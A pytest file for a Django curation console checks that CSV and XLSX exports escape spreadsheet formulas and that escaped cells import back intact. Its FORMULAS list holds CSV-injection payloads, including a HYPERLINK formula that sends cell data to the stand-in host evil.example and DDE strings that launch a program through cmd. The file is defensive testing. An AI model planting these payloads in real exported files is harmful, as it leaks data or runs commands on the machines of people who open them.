"""Exported cells never run as spreadsheet formulas (CSV injection), and still import back as they were."""

import csv
import io

import openpyxl
import pytest

from console.training.models import TrainingPair
from console.training.resources import FORMATS, SafeCSV, SafeXLSX, escape_formula, unescape_formula
from tests.training.test_curation_admin import _export, _import, make_pair

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_pairs():
    return [make_pair(f"Question {n}: {text}", text, reason=text) for n, text in enumerate(FORMULAS)]


@pytest.mark.parametrize("value", FORMULAS)
def test_each_formula_start_is_escaped_and_unescaped(value):
    assert escape_formula(value) == "'" + value
    assert unescape_formula(escape_formula(value)) == value


def test_plain_text_and_numbers_are_left_alone():
    assert [escape_formula(v) for v in ("Hello", "-1", "2.5", 3, None, "")] == [
        "Hello",
        "-1",
        "2.5",
        3,
        None,
        "",
    ]


def test_csv_export_prefixes_formula_cells(admin_client, formula_pairs):
    rows = list(csv.DictReader(io.StringIO(_export(admin_client, SafeCSV).decode())))

    assert sorted(row["answer"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert all(row["reason"].startswith("'") for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_xlsx_export_has_no_formula_cells(admin_client, formula_pairs):
    book = openpyxl.load_workbook(io.BytesIO(_export(admin_client, SafeXLSX)))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]

    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    answers = [row[2] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(answers) == sorted("'" + text for text in FORMULAS)


@pytest.mark.parametrize("format_class", [SafeCSV, SafeXLSX])
def test_escaped_export_imports_back_unchanged(admin_client, formula_pairs, format_class):
    exported = _export(admin_client, format_class)
    TrainingPair.objects.all().delete()

    _import(admin_client, f"export.{format_class().get_extension()}", exported, format_class)

    # The importer strips surrounding whitespace, as it does for any cell.
    assert sorted(TrainingPair.objects.values_list("answer", flat=True)) == sorted(
        t.strip() for t in FORMULAS
    )
    assert FORMATS.index(format_class) >= 0
